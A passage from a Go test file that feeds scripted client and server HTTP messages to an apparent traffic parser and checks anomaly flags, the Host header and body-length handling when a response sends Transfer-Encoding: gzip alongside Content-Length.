			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				check(t, "anomalies", anomalyNames(txs[0]), []string{AnomalyBadHeaderLine})
				check(t, "Host", txs[0].Request.Host, "h")
			},
		},
		{
			name: "response with Transfer-Encoding gzip is close-delimited",
			evs: append([]event{
				cli("GET / HTTP/1.1\r\n\r\n"),
				srv("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\nContent-Length: 2\r\n\r\nabcdef"),
			}, closeBoth()...),
			check: func(t *testing.T, txs []*Transaction) {
				wantN(t, txs, 1)
				noAnomalies(t, txs)
				check(t, "resp.BodyBytes", txs[0].Response.BodyBytes, int64(6))
			},
		},
	}
}

func TestExchanges(t *testing.T) {
	for _, x := range exchanges() {
		t.Run(x.name, func(t *testing.T) {
			x.check(t, run(t, x.lim, x.evs, whole))
		})
	}
}
